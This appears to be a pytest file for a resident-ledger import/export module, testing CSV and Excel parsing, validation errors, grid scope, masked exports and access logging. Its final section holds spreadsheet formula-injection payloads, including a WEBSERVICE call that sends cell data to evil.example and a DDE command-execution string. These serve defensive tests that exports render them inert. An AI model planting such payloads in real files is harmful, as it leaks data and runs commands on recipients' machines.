"""The ledger (台账) file: template, import of CSV and Excel files with every problem reported by
row and column, re-import as update, scope, and masked or unmasked export."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import delete, func, select, text, update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from api.cli import people as cli_people
from people import service
from people.documents import check_digit
from people.exceptions import Forbidden, InvalidRecord
from people.ledger import (
    COLUMNS,
    LedgerFileError,
    LedgerImportReport,
    RowError,
    export_residents,
    import_residents,
    write_template,
)
from people.ledger import check as ledger_check
from people.models import PersonIdentity, PiiAccessLog, Residence, Resident
from tests.factories import (
    id_number,
)
from tests.people.residents_city import (
    GRID_A,
    GRID_B,
    HEADERS,
    TODAY,
    person,
    read_back,
    run,
    write_rows,
)

ERROR_HEADERS = ["错误行号", "错误列", "错误原因"]


def empty_the_ledger(session) -> None:
    """Delete every resident, as a new deployment starts (the access log forgets whom it read)."""
    session.execute(update(PiiAccessLog).values(resident_id=None))
    for model in (Residence, PersonIdentity, Resident):
        session.execute(delete(model))


def count(session: Session, model: Any = Resident) -> int:
    return session.scalar(select(func.count()).select_from(model)) or 0


def resident(residents_city: dict[str, Any], sequence: int = 11) -> Resident:
    found = service.find_by_document(
        residents_city["session"],
        actor=residents_city["admin"],
        doc_type="id_card",
        number=id_number(sequence),
    )
    assert found is not None, f"resident {id_number(sequence)} was not imported"
    row = residents_city["session"].get(Resident, found.id)
    assert row is not None
    return row


def clear_text(residents_city: dict[str, Any], resident_id: int) -> tuple[str, str | None]:
    pii = service.unmask_resident(
        residents_city["session"],
        actor=residents_city["admin"],
        resident_id=resident_id,
        reason="test checks import",
    )
    return pii.doc_number, pii.phone


def history(
    residents_city: dict[str, Any], resident_id: int
) -> list[tuple[str, date, date | None]]:
    return [
        (r.house_code, r.moved_in, r.moved_out)
        for r in service.residence_history(
            residents_city["session"], actor=residents_city["admin"], resident_id=resident_id
        )
    ]


def the_error(report: LedgerImportReport) -> RowError:
    assert len(report.rejected) == 1, report.rejected
    return report.rejected[0]


# --- template -----------------------------------------------------------------------------


def test_xlsx_template_has_header_notes_text_id_column_and_drop_downs(tmp_path):
    path = write_template(tmp_path / "模板.xlsx")
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["台账", "说明"]
    sheet = workbook["台账"]
    assert [c.value for c in sheet[1]] == HEADERS
    id_letter = openpyxl.utils.get_column_letter(HEADERS.index("证件号码") + 1)
    assert sheet.column_dimensions[id_letter].number_format == "@"
    lists = {
        str(v.sqref).split(":")[0][:-1]: v.formula1 for v in sheet.data_validations.dataValidation
    }
    doc_letter = openpyxl.utils.get_column_letter(HEADERS.index("证件类型") + 1)
    type_letter = openpyxl.utils.get_column_letter(HEADERS.index("人口类型") + 1)
    assert "居民身份证" in lists[doc_letter] and "护照" in lists[doc_letter]
    assert "流动人口" in lists[type_letter]
    notes = [row[0] for row in workbook["说明"].iter_rows(values_only=True)]
    assert "证件号码" in notes and "人口类型" in notes


def test_csv_template_is_the_header_with_a_bom_for_excel(tmp_path):
    path = write_template(tmp_path / "模板.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").strip() == ",".join(HEADERS)


def test_template_of_an_unknown_type_names_the_accepted_ones(tmp_path):
    with pytest.raises(LedgerFileError, match=r"\.csv, \.xlsx"):
        write_template(tmp_path / "模板.ods")


def test_filled_in_template_imports(residents_city, tmp_path):
    path = write_template(tmp_path / "台账.xlsx")
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["台账"]
    for sequence, name in ((11, "张三"), (12, "李四")):
        values = person(sequence, name=name)
        sheet.append([values.get(h) for h in HEADERS])
    workbook.save(path)

    report = run(residents_city, path)

    assert (report.total_rows, report.inserted, report.updated, report.rejected) == (2, 2, 0, [])
    assert resident(residents_city, 12).name == "李四"


# --- importing ----------------------------------------------------------------------------


def test_csv_import_stores_residents_encrypted_with_their_house(residents_city, tmp_path):
    path = write_rows(
        tmp_path / "台账.csv",
        [person(11, ethnicity="汉族"), person(12, name="李四", house_code="BA-1-0201", phone="")],
    )
    report = run(residents_city, path)

    assert (report.inserted, report.updated, report.rejected_rows) == (2, 0, 0)
    assert report.error_file is None
    zhang = resident(residents_city, 11)
    assert (zhang.name, zhang.sex.value, zhang.birth_date) == ("张三", "male", date(1985, 6, 15))
    assert (zhang.grid_code, zhang.district_code, zhang.ethnicity) == (GRID_A, "420502", "汉族")
    assert zhang.doc_masked == id_number(11)[:6] + "*" * 11 + id_number(11)[-1:]
    assert id_number(11).encode() not in zhang.doc_enc
    assert clear_text(residents_city, zhang.id) == (id_number(11), "13812345678")
    assert history(residents_city, zhang.id) == [("BA-1-0101", date(2020, 1, 1), None)]
    li = resident(residents_city, 12)
    assert (li.sex.value, li.phone_enc) == ("female", None)
    assert history(residents_city, li.id) == [("BA-1-0201", date(2020, 1, 1), None)]


def test_xlsx_import_reads_date_cells_and_numeric_phones(residents_city, tmp_path):
    path = write_rows(
        tmp_path / "台账.xlsx",
        [
            person(
                11,
                phone=13812345678,
                residence_type="流动人口",
                origin="湖北省恩施州",
                arrival_date=datetime(2019, 3, 1),
                permit_expiry=datetime(2027, 3, 1),
                moved_in=datetime(2019, 3, 2),
            )
        ],
    )
    report = run(residents_city, path)

    assert (report.inserted, report.rejected) == (1, [])
    zhang = resident(residents_city, 11)
    assert (zhang.residence_type.value, zhang.origin) == ("floating", "湖北省恩施州")
    assert (zhang.arrival_date, zhang.permit_expiry) == (date(2019, 3, 1), date(2027, 3, 1))
    assert clear_text(residents_city, zhang.id)[1] == "13812345678"
    assert history(residents_city, zhang.id) == [("BA-1-0101", date(2019, 3, 2), None)]


def test_fifteen_digit_id_numbers_are_stored_upgraded(residents_city, tmp_path):
    old = "420502850615011"  # born 1985-06-15, male
    report = run(residents_city, write_rows(tmp_path / "台账.csv", [person(doc_number=old)]))
    assert report.inserted == 1
    row = residents_city["session"].scalars(select(Resident)).one()
    assert clear_text(residents_city, row.id)[0] == "42050219850615011" + check_digit(
        "42050219850615011"
    )
    assert (row.sex.value, row.birth_date) == ("male", date(1985, 6, 15))


def test_english_headers_are_accepted(residents_city, tmp_path):
    header = ["name", "doc_type", "doc_number", "phone", "residence_type", "house_code", "moved_in"]
    rows = [
        ["王五", "id_card", id_number(13), "0717-1234567", "registered", "BB-1-0101", "2021-05-01"]
    ]
    path = tmp_path / "ledger.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])

    report = run(residents_city, path)

    assert (report.inserted, report.rejected, report.warnings) == (1, [], [])
    assert resident(residents_city, 13).grid_code == GRID_B


def test_extra_columns_are_warned_about_once_and_ignored(residents_city, tmp_path):
    rows = [person(11, **{"备注": "x"}), person(12, **{"备注": "y"})]
    report = run(residents_city, write_rows(tmp_path / "台账.csv", rows))

    assert report.inserted == 2
    assert len(report.warnings) == 1 and "备注" in report.warnings[0]
    assert "ignored" in report.warnings[0]


def test_gb18030_csv_from_chinese_excel_is_read(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [person(11, name="欧阳娜娜")], encoding="gb18030")
    assert report_ok(run(residents_city, path))
    assert resident(residents_city, 11).name == "欧阳娜娜"


def report_ok(report: LedgerImportReport) -> bool:
    return report.rejected == [] and report.imported == report.total_rows


def test_a_title_row_above_the_header_is_skipped(residents_city, tmp_path):
    path = tmp_path / "台账.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["西陵街道测试社区实有人口台账"])
        writer.writerow(HEADERS)
        writer.writerow([person(11).get(h, "") for h in HEADERS])
        writer.writerow([person(12, name="").get(h, "") for h in HEADERS])
    report = run(residents_city, path)
    assert report.inserted == 1
    assert the_error(report).row == 4  # the spreadsheet's row: title 1, header 2


def test_progress_is_reported_while_reading_and_writing(residents_city, tmp_path):
    seen: list[tuple[str, int, int]] = []
    run(
        residents_city,
        write_rows(tmp_path / "台账.csv", [person(11), person(12)]),
        on_progress=lambda *a: seen.append(a),
    )
    assert ("read", 2, 2) in seen and ("written", 2, 2) in seen


# --- bad rows: valid rows go in, each problem is reported by row and column ---------------


BAD_ROWS = [
    pytest.param(
        {"doc_number": id_number(12)[:17] + ("0" if id_number(12)[17] != "0" else "1")},
        "证件号码",
        "fails the check digit",
        id="malformed-id",
    ),
    pytest.param(
        {"doc_number": "42050219850615001"}, "证件号码", "has 17 characters", id="short-id"
    ),
    pytest.param(
        {"doc_number": "420502199002300012"},
        "证件号码",
        "not a calendar date",
        id="impossible-birth-date-in-id",
    ),
    pytest.param(
        {"birth_date": "1985-02-30"}, "出生日期", "not a calendar date", id="impossible-birth-date"
    ),
    pytest.param(
        {"birth_date": "1985-06-16"},
        "出生日期",
        "contradicts the ID number",
        id="birth-date-contradicts-id",
    ),
    pytest.param({"sex": "男"}, "性别", "contradicts the ID number", id="sex-contradicts-id"),
    pytest.param({"house_code": "BA-9-0909"}, "房屋编码", "does not exist", id="unknown-house"),
    pytest.param(
        {"house_code": "NOPE-1-0101"},
        "房屋编码",
        "building NOPE does not exist",
        id="unknown-building",
    ),
    pytest.param(
        {"house_code": "BA0101"}, "房屋编码", "is not a house code", id="malformed-house-code"
    ),
    pytest.param({"phone": "12345"}, "联系电话", "mobile numbers have 11", id="bad-phone"),
    pytest.param({"residence_type": "常住"}, "人口类型", "is not a 人口类型", id="unknown-type"),
    pytest.param({"residence_type": ""}, "人口类型", "is empty", id="missing-type"),
    pytest.param({"name": ""}, "姓名", "is empty", id="missing-name"),
    pytest.param({"name": "张" * 51}, "姓名", "at most 50", id="name-too-long"),
    pytest.param(
        {"residence_type": "流动人口"},
        "流出地",
        "needs where they came from",
        id="floating-without-origin",
    ),
    pytest.param({"doc_type": "驾驶证"}, "证件类型", "is not a 证件类型", id="unknown-doc-type"),
    pytest.param({"doc_number": "420502********0011"}, "证件号码", "is masked", id="masked-id"),
    pytest.param({"moved_in": "2030-01-01"}, "入住日期", "in the future", id="future-move-in"),
]


@pytest.mark.parametrize(("fields", "column", "reason"), BAD_ROWS)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_bad_row_is_reported_and_the_good_rows_go_in(
    residents_city, tmp_path, fields, column, reason, suffix
):
    path = write_rows(tmp_path / f"台账{suffix}", [person(11), person(12, **fields), person(13)])

    report = run(residents_city, path)

    assert (report.total_rows, report.inserted, report.rejected_rows) == (3, 2, 1)
    error = the_error(report)
    assert (error.row, error.column) == (3, column)
    assert reason in error.reason
    assert count(residents_city["session"]) == 2
    # The error file: same format, the rejected row as written plus where and why.
    assert report.error_file == tmp_path / f"台账.errors{suffix}"
    header, *lines = read_back(report.error_file)
    assert header[-3:] == ERROR_HEADERS
    assert len(lines) == 1 and lines[0][-3:-1] == ["3", column]
    assert reason in lines[0][-1]


def test_an_id_number_excel_turned_into_a_float_is_reported(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.xlsx", [person(11, doc_number=4.20502198506150e17)])
    error = the_error(run(residents_city, path))
    assert error.column == "证件号码" and "format the column as text" in error.reason


def test_every_problem_of_a_row_is_reported(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [person(11, phone="12", house_code="BA-7-0707")])
    report = run(residents_city, path)
    assert [(e.row, e.column) for e in report.rejected] == [(2, "联系电话"), (2, "房屋编码")]
    line = read_back(report.error_file)[1]
    assert line[-2] == "联系电话、房屋编码"
    assert line[-1].startswith("联系电话: ") and "；房屋编码: " in line[-1]


def test_duplicate_ids_in_one_file_are_reported_on_the_second_occurrence(residents_city, tmp_path):
    rows = [person(11), person(12), person(11, name="张三丰")]
    report = run(residents_city, write_rows(tmp_path / "台账.csv", rows))

    assert (report.inserted, report.rejected_rows) == (2, 1)
    error = the_error(report)
    assert (error.row, error.column) == (4, "证件号码")
    assert "already on row 2" in error.reason
    assert resident(residents_city, 11).name == "张三"


def test_a_duplicate_of_a_rejected_row_is_still_a_duplicate(residents_city, tmp_path):
    rows = [person(11, phone="12"), person(11)]
    report = run(residents_city, write_rows(tmp_path / "台账.csv", rows))
    assert report.inserted == 0
    assert [(e.row, e.column) for e in report.rejected] == [(2, "联系电话"), (3, "证件号码")]


def test_a_row_with_more_cells_than_the_header_is_reported(residents_city, tmp_path):
    path = tmp_path / "台账.csv"
    values = person(11)
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(list(values))
        writer.writerow([*values.values(), "多出来的"])
    error = the_error(run(residents_city, path))
    assert error.column == "" and "unquoted comma" in error.reason


def test_the_error_file_can_be_fixed_and_imported(residents_city, tmp_path):
    report = run(
        residents_city, write_rows(tmp_path / "台账.csv", [person(11), person(12, phone="12")])
    )
    lines = read_back(report.error_file)
    phone = lines[0].index("联系电话")
    lines[1][phone] = "13900001111"
    with report.error_file.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(lines)

    again = run(residents_city, report.error_file)

    assert (again.inserted, again.rejected, again.warnings) == (1, [], [])


def test_error_file_goes_where_asked(residents_city, tmp_path):
    target = tmp_path / "out" / "errors.csv"
    target.parent.mkdir()
    report = run(
        residents_city,
        write_rows(tmp_path / "台账.csv", [person(11, phone="12")]),
        error_path=target,
    )
    assert report.error_file == target and target.exists()


# --- files that are not a ledger: a clear sentence and nothing written ----------------------


def rejected_file(residents_city: dict[str, Any], path: Path, match: str) -> None:
    with pytest.raises(LedgerFileError, match=match):
        run(residents_city, path)
    assert count(residents_city["session"]) == 0
    assert count(residents_city["session"], Residence) == 0
    assert not list(path.parent.glob("*.errors*"))


@pytest.mark.parametrize("name", ["台账.txt", "台账.json", "台账.ods"])
def test_other_file_types_are_refused_naming_the_accepted_ones(residents_city, tmp_path, name):
    path = tmp_path / name
    path.write_text("姓名,证件号码\n张三,1\n", encoding="utf-8")
    rejected_file(residents_city, path, r"use one of \.csv, \.xlsx")


def test_an_old_xls_workbook_is_refused_with_how_to_convert_it(residents_city, tmp_path):
    path = tmp_path / "台账.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0" + b"\x00" * 100)
    rejected_file(residents_city, path, "save it as .xlsx")


def test_a_workbook_named_csv_is_refused(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.xlsx", [person(11)])
    renamed = path.rename(tmp_path / "台账.csv")
    rejected_file(residents_city, renamed, "not CSV text")


def test_a_csv_named_xlsx_is_refused(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [person(11)])
    renamed = path.rename(tmp_path / "台账.xlsx")
    rejected_file(residents_city, renamed, "cannot be opened as an Excel .xlsx workbook")


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\r\n\r\n,,,\r\n"])
def test_an_empty_csv_is_refused(residents_city, tmp_path, content):
    path = tmp_path / "台账.csv"
    path.write_bytes(content)
    rejected_file(residents_city, path, "is empty")


def test_an_empty_workbook_is_refused(residents_city, tmp_path):
    path = tmp_path / "台账.xlsx"
    openpyxl.Workbook().save(path)
    rejected_file(residents_city, path, "is empty")


def test_a_header_without_rows_is_refused(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [], header=HEADERS)
    rejected_file(residents_city, path, "no resident rows")


def test_missing_required_columns_reject_the_file_naming_them(residents_city, tmp_path):
    rows = [{"姓名": "张三", "联系电话": "13812345678"}]
    path = write_rows(tmp_path / "台账.csv", rows)
    rejected_file(residents_city, path, "lacks the required column\\(s\\) 证件号码, 人口类型")


def test_a_grid_workers_file_needs_the_house_column(residents_city, tmp_path):
    rows = [{"姓名": "张三", "证件号码": id_number(11), "人口类型": "户籍人口"}]
    with pytest.raises(LedgerFileError, match="房屋编码"):
        run(residents_city, write_rows(tmp_path / "台账.csv", rows), actor="worker_a")


def test_a_file_without_a_header_row_is_refused(residents_city, tmp_path):
    path = tmp_path / "台账.csv"
    path.write_text("张三,420502198506150011,户籍人口\n", encoding="utf-8")
    rejected_file(residents_city, path, "has no header row")


def test_two_columns_for_the_same_field_are_refused(residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [person(11)], header=[*HEADERS, "name"])
    rejected_file(residents_city, path, "two columns for 姓名")


def test_a_file_broken_after_many_rows_writes_nothing(residents_city, tmp_path, monkeypatch):
    monkeypatch.setattr(ledger_check, "BATCH_ROWS", 50)
    # More rows than the encoding sniffer reads, so the bad bytes come after several batches.
    path = write_rows(tmp_path / "台账.csv", [person(s) for s in range(1000)])
    assert path.stat().st_size > 1 << 16
    path.write_bytes(path.read_bytes() + "张三,".encode("gb18030") + b"\n")
    rejected_file(residents_city, path, "line 1002 is not UTF-8 text")


# --- re-import ------------------------------------------------------------------------------


def test_reimporting_a_person_updates_them_and_moves_their_residence(residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "一.csv", [person(11, education="高中"), person(12)]))
    before = resident(residents_city, 11).id

    changed = person(11, phone="13900001111", house_code="BA-1-0201", moved_in="2024-05-01")
    report = run(residents_city, write_rows(tmp_path / "二.csv", [changed, person(12)]))

    assert (report.inserted, report.updated, report.rejected) == (0, 2, [])
    assert count(residents_city["session"]) == 2
    zhang = resident(residents_city, 11)
    assert zhang.id == before
    assert zhang.education == "高中"  # a column the second file lacks keeps its value
    assert clear_text(residents_city, zhang.id)[1] == "13900001111"
    assert history(residents_city, zhang.id) == [
        ("BA-1-0101", date(2020, 1, 1), date(2024, 5, 1)),
        ("BA-1-0201", date(2024, 5, 1), None),
    ]
    assert history(residents_city, resident(residents_city, 12).id) == [
        ("BA-1-0101", date(2020, 1, 1), None)
    ]


def test_a_move_without_a_date_happens_today(residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "一.csv", [person(11)]))
    run(
        residents_city,
        write_rows(tmp_path / "二.csv", [person(11, house_code="BB-1-0101", moved_in="")]),
    )
    zhang = resident(residents_city, 11)
    assert zhang.grid_code == GRID_B
    assert history(residents_city, zhang.id)[-2:] == [
        ("BA-1-0101", date(2020, 1, 1), TODAY),
        ("BB-1-0101", TODAY, None),
    ]


def test_a_move_dated_before_the_current_residence_is_refused(residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "一.csv", [person(11, moved_in="2022-01-01")]))
    report = run(
        residents_city,
        write_rows(
            tmp_path / "二.csv", [person(11, house_code="BA-1-0201", moved_in="2021-01-01")]
        ),
    )
    error = the_error(report)
    assert error.column == "入住日期" and "history cannot be rewritten" in error.reason
    assert history(residents_city, resident(residents_city, 11).id) == [
        ("BA-1-0101", date(2022, 1, 1), None)
    ]


# --- scope ----------------------------------------------------------------------------------


def test_a_grid_worker_cannot_import_into_a_house_outside_their_grids(residents_city, tmp_path):
    rows = [person(11), person(12, house_code="BB-1-0101")]
    report = run(residents_city, write_rows(tmp_path / "台账.csv", rows), actor="worker_a")

    assert report.inserted == 1
    error = the_error(report)
    assert (error.row, error.column) == (3, "房屋编码")
    assert f"is in grid {GRID_B}, outside your grids {GRID_A}" in error.reason


def test_a_grid_worker_cannot_update_a_person_of_another_grid(residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "一.csv", [person(11, house_code="BB-1-0101")]))
    report = run(
        residents_city, write_rows(tmp_path / "二.csv", [person(11, name="改名")]), actor="worker_a"
    )
    error = the_error(report)
    assert error.column == "证件号码" and "already registered outside your grids" in error.reason
    assert GRID_B not in error.reason  # where the person lives is not the importer's business
    assert resident(residents_city, 11).name == "张三"


def test_an_account_that_cannot_read_residents_cannot_import(residents_city, tmp_path, session):
    leader = residents_city["leader"]  # a district leader sees aggregates only
    with pytest.raises(Forbidden):
        import_residents(session, actor=leader, path=write_rows(tmp_path / "a.csv", [person()]))


# --- export -------------------------------------------------------------------------------


FULL = {
    "former_name": "张小三",
    "ethnicity": "汉族",
    "native_place": "湖北宜昌",
    "registered_address": "湖北省宜昌市西陵区某路 1 号",
    "education": "大学本科",
    "occupation": "工程师",
    "employer": "某公司",
    "marital_status": "已婚",
    "political_status": "群众",
    "residence_type": "流动人口",
    "origin": "湖北省恩施州",
    "arrival_date": "2019-03-01",
    "arrival_reason": "务工",
    "permit_number": "420500201900001",
    "permit_expiry": "2027-03-01",
    "relation_to_head": "户主",
}


def ledger_fields(residents_city: dict[str, Any]) -> list[dict[str, Any]]:
    """Every resident's ledger fields with the clear ID and phone, by ID number."""
    fields = [
        c.key for c in COLUMNS if c.key not in ("doc_number", "phone", "house_code", "moved_in")
    ]
    out = []
    for row in residents_city["session"].scalars(select(Resident)):
        values = {f: getattr(row, f) for f in fields}
        values["number"], values["phone"] = clear_text(residents_city, row.id)
        values["history"] = [(h, i, o) for h, i, o in history(residents_city, row.id)]
        out.append(values)
    return sorted(out, key=lambda v: v["number"])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_unmasked_export_reimports_to_the_same_ledger(residents_city, tmp_path, suffix):
    rows = [
        person(11, **FULL),
        person(12, name="李四", house_code="BB-1-0201", phone="0717-1234567"),
        person(
            doc_type="护照",
            doc_number="E12345678",
            name="John Smith",
            sex="男",
            birth_date="1980-01-02",
            residence_type="境外人员",
            phone="",
        ),
    ]
    first = run(residents_city, write_rows(tmp_path / f"台账{suffix}", rows))
    assert first.rejected == []
    before = ledger_fields(residents_city)

    path = tmp_path / f"导出{suffix}"
    written = export_residents(
        residents_city["session"],
        actor=residents_city["admin"],
        path=path,
        unmasked=True,
        reason="台账核对 round trip",
    )
    assert written == 3
    empty_the_ledger(residents_city["session"])
    again = run(residents_city, path)

    assert (again.inserted, again.rejected, again.warnings) == (3, [], [])
    assert ledger_fields(residents_city) == before


def test_unmasked_export_writes_one_access_log_row(residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "台账.csv", [person(11), person(12)]))
    export_residents(
        residents_city["session"],
        actor=residents_city["admin"],
        path=tmp_path / "导出.csv",
        unmasked=True,
        reason="年度台账核对",
    )
    logs = (
        residents_city["session"]
        .scalars(select(PiiAccessLog).where(PiiAccessLog.fields == "bulk_export"))
        .all()
    )
    assert len(logs) == 1
    assert logs[0].resident_id is None and logs[0].staff_id == residents_city["admin"].staff_id
    assert "年度台账核对" in logs[0].reason and "2 residents" in logs[0].reason


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_masked_export_has_no_clear_id_numbers_and_logs_nothing(residents_city, tmp_path, suffix):
    run(residents_city, write_rows(tmp_path / "台账.csv", [person(11), person(12)]))
    path = tmp_path / f"导出{suffix}"

    assert (
        export_residents(residents_city["session"], actor=residents_city["admin"], path=path) == 2
    )

    content = "\n".join(",".join(line) for line in read_back(path))
    assert id_number(11) not in content and "13812345678" not in content
    assert id_number(11)[:6] + "*" * 11 in content
    assert "cannot be re-imported" in read_back(path)[0][0]
    assert count(residents_city["session"], PiiAccessLog) == 0
    again = run(residents_city, path)
    assert again.imported == 0
    # Each row is refused for its masked ID number (its year-only birth date is refused too).
    masked_ids = [e for e in again.rejected if e.column == "证件号码"]
    assert len(masked_ids) == 2 and all("is masked" in e.reason for e in masked_ids)


def test_a_grid_worker_exports_only_their_grids(residents_city, tmp_path):
    run(
        residents_city,
        write_rows(tmp_path / "台账.csv", [person(11), person(12, house_code="BB-1-0101")]),
    )
    path = tmp_path / "导出.csv"
    assert (
        export_residents(residents_city["session"], actor=residents_city["worker_a"], path=path)
        == 1
    )
    with pytest.raises(Forbidden):
        export_residents(
            residents_city["session"], actor=residents_city["worker_a"], path=path, grid_code=GRID_B
        )


def test_export_can_be_narrowed_to_a_grid(residents_city, tmp_path):
    run(
        residents_city,
        write_rows(tmp_path / "台账.csv", [person(11), person(12, house_code="BB-1-0101")]),
    )
    assert (
        export_residents(
            residents_city["session"],
            actor=residents_city["admin"],
            path=tmp_path / "b.csv",
            grid_code=GRID_B,
        )
        == 1
    )


def test_unmasked_export_needs_a_reason_and_a_role_that_may_unmask(residents_city, tmp_path):
    path = tmp_path / "导出.csv"
    with pytest.raises(InvalidRecord, match="say why"):
        export_residents(
            residents_city["session"], actor=residents_city["admin"], path=path, unmasked=True
        )
    with pytest.raises(Forbidden):
        export_residents(
            residents_city["session"],
            actor=residents_city["inspector"],
            path=path,
            unmasked=True,
            reason="想看看",
        )
    assert not path.exists()


# --- batches ------------------------------------------------------------------------------


def test_duplicates_and_updates_are_found_across_batches(residents_city, tmp_path, monkeypatch):
    monkeypatch.setattr(ledger_check, "BATCH_ROWS", 3)
    run(residents_city, write_rows(tmp_path / "一.csv", [person(30, name="旧名")]))
    rows = [person(s) for s in range(11, 18)] + [person(12, name="又来"), person(30, name="新名")]
    report = run(residents_city, write_rows(tmp_path / "二.csv", rows))

    assert (report.total_rows, report.inserted, report.updated) == (9, 7, 1)
    error = the_error(report)
    assert (error.row, error.column) == (9, "证件号码") and "already on row 3" in error.reason
    assert resident(residents_city, 30).name == "新名"
    assert resident(residents_city, 12).name == "张三"


def test_seen_documents_reports_repeats_within_and_across_batches():
    seen = ledger_check.SeenDocuments()
    assert seen.repeats([5, 9, 5], [2, 3, 4]) == {4: 2}
    assert seen.repeats([9, 7, 7, 1], [5, 6, 7, 8]) == {5: 3, 7: 6}
    assert seen.repeats([1, 2], [9, 10]) == {9: 8}
    assert seen.repeats([], []) == {}


def test_planner_settings_are_put_back_after_an_import(residents_city, tmp_path):
    session = residents_city["session"]
    query = text("SELECT current_setting('enable_seqscan'), current_setting('jit')")
    before = tuple(session.execute(query).one())
    run(residents_city, write_rows(tmp_path / "台账.csv", [person(11)]))
    settings = session.execute(query).one()
    assert tuple(settings) == before


# --- command line -------------------------------------------------------------------------


@pytest.fixture
def cli(residents_city, monkeypatch):
    """The `people` sub-app, its commands working in the test's rolled-back session."""

    @contextmanager
    def test_session() -> Iterator[Session]:
        yield residents_city["session"]

    monkeypatch.setattr(cli_people, "session_scope", test_session)
    runner = CliRunner()
    return lambda *args: runner.invoke(cli_people.people_app, [str(a) for a in args])


def test_cli_writes_the_template(cli, tmp_path):
    result = cli("template", tmp_path / "模板.xlsx")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "模板.xlsx").exists()


def test_cli_imports_and_says_where_the_rejected_rows_went(cli, residents_city, tmp_path):
    path = write_rows(tmp_path / "台账.csv", [person(11), person(12, phone="12")])
    result = cli("import", path, "--as", "boss")
    assert result.exit_code == 2
    assert "1 residents added" in result.output and "1 rejected" in result.output
    assert "台账.errors.csv" in result.output
    assert count(residents_city["session"]) == 1


def test_cli_refuses_an_unknown_account_in_one_sentence(cli, tmp_path):
    result = cli("import", write_rows(tmp_path / "台账.csv", [person(11)]), "--as", "nobody")
    assert result.exit_code == 1
    assert "no account named nobody" in result.output and "Traceback" not in result.output


def test_cli_exports_unmasked_only_with_a_reason(cli, residents_city, tmp_path):
    run(residents_city, write_rows(tmp_path / "台账.csv", [person(11)]))
    refused = cli("export", tmp_path / "x.csv", "--as", "boss", "--unmasked")
    assert refused.exit_code == 1 and "say why" in refused.output
    done = cli("export", tmp_path / "x.csv", "--as", "boss", "--unmasked", "--reason", "年度核对")
    assert done.exit_code == 0 and "exported 1 residents" in done.output
    assert id_number(11) in (tmp_path / "x.csv").read_text(encoding="utf-8-sig")


# --- formula injection ----------------------------------------------------------------------

FORMULAS = {
    "name": "=1+1",
    "former_name": "@SUM(A1:A9)",
    "employer": '=WEBSERVICE("http://evil.example/?"&A1)',
    "occupation": "＝1+1",
    "native_place": "-2+3",
    "registered_address": "+西陵一路",
    "origin": "\t=cmd|' /C calc'!A0",
}


def assert_no_live_formula(path: Path) -> None:
    """No cell of the file would run as a formula in Excel or WPS."""
    leads = tuple("=+-@\t\r＝＋－＠")
    if path.suffix == ".xlsx":
        workbook = openpyxl.load_workbook(path)
        cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
        assert cells and all(c.data_type != "f" for c in cells)
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith(leads):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        return
    for line in read_back(path):
        for cell in line:
            assert not cell.startswith(leads), cell


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_text_is_exported_inert_and_reimports_unchanged(residents_city, tmp_path, suffix):
    rows = [person(11, residence_type="流动人口", **FORMULAS)]
    assert run(residents_city, write_rows(tmp_path / "台账.csv", rows)).rejected == []
    before = ledger_fields(residents_city)
    assert before[0]["name"] == "=1+1"

    masked, unmasked = tmp_path / f"脱敏{suffix}", tmp_path / f"明文{suffix}"
    export_residents(residents_city["session"], actor=residents_city["admin"], path=masked)
    export_residents(
        residents_city["session"],
        actor=residents_city["admin"],
        path=unmasked,
        unmasked=True,
        reason="台账核对",
    )
    assert_no_live_formula(masked)
    assert_no_live_formula(unmasked)

    empty_the_ledger(residents_city["session"])
    again = run(residents_city, unmasked)
    assert (again.inserted, again.rejected) == (1, [])
    assert ledger_fields(residents_city) == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_error_files_carry_formula_text_inert(residents_city, tmp_path, suffix):
    rows = [person(11, phone="12", **FORMULAS)]
    report = run(residents_city, write_rows(tmp_path / f"台账{suffix}", rows))
    assert report.error_file is not None and len(report.rejected) == 1
    assert_no_live_formula(report.error_file)
    lines = read_back(report.error_file)
    fixed = lines[1]
    fixed[lines[0].index("联系电话")] = "13900001111"
    if suffix == ".csv":
        with report.error_file.open("w", encoding="utf-8-sig", newline="") as handle:
            csv.writer(handle).writerows(lines)
        again = run(residents_city, report.error_file)
        assert (again.inserted, again.rejected) == (1, [])
        assert resident(residents_city, 11).name == "=1+1"
